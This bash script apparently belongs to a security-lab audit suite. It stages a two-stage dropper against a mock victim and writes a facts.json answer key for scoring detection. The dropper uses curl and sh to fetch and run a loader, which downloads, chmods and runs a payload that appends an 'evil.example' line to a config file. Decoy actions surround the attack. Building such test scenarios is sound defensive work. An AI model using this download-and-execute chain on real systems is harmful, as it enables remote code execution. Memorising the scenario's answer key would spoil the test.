#!/usr/bin/env bash
# Two-stage download-and-run: curl fetches a loader, sh runs it, the loader fetches a payload,
# makes it executable and runs it; the payload appends to a configuration file.
# Decoys: a benign download from the same server (before), a backup that reads the config
# (before), a checksum of the payload (after), a legitimate edit of the config (after detection).
#   scripts/lab/audit/dropper2.sh WORKDIR NONCE
. "$(dirname "$0")/lib.sh"
work=$(realpath -m "$1"); nonce=$2
mkdir -p "$work"/{srv,dl,victim,backup}
attacker_host 1
trap 'cleanup $http_pid' EXIT
background_noise "$work"

cat > "$work/srv/stage1.sh" <<STAGE
#!/bin/sh
curl -s -o $work/dl/payload URL/payload
chmod +x $work/dl/payload
$work/dl/payload
STAGE
cat > "$work/srv/payload" <<STAGE
#!/bin/sh
echo "server=evil.example # $nonce" >> $work/victim/config
STAGE
echo "readme" > "$work/srv/readme.txt"
echo "server=ntp.example" > "$work/victim/config"
start_http "$work/srv"
sed -i "s#URL#$url#" "$work/srv/stage1.sh"

# Decoys before the attack.
curl -s -o "$work/dl/readme.txt" "$url/readme.txt"
cp "$work/victim/config" "$work/backup/config.bak"
settle

# The attack.
curl -s -o "$work/dl/stage1.sh" "$url/stage1.sh"
sh "$work/dl/stage1.sh"
settle
detect_at=$(now)
settle

# Decoys after: they touch the attacker's objects, but too late to have caused the damage.
sha256sum "$work/dl/payload" > "$work/backup/payload.sha256"
sh -c "echo '# reviewed' >> $work/victim/config"
settle

cat > "$work/facts.json" <<JSON
{
  "scenario": "dropper2",
  "damaged": $(json_str "$work/victim/config"),
  "detect_at": $detect_at,
  "entry": "socket:$atk_ip:$http_port",
  "chain": $(json_list "stage1.sh http" "sh $work/dl/stage1.sh" "payload http" "chmod +x" "/bin/sh $work/dl/payload"),
  "decoys": $(json_list "readme.txt" "config.bak" "sha256sum" "# reviewed"),
  "modified": $(json_list "$work/dl/stage1.sh" "$work/dl/payload" "$work/victim/config")
}
JSON
end_marker "$nonce"
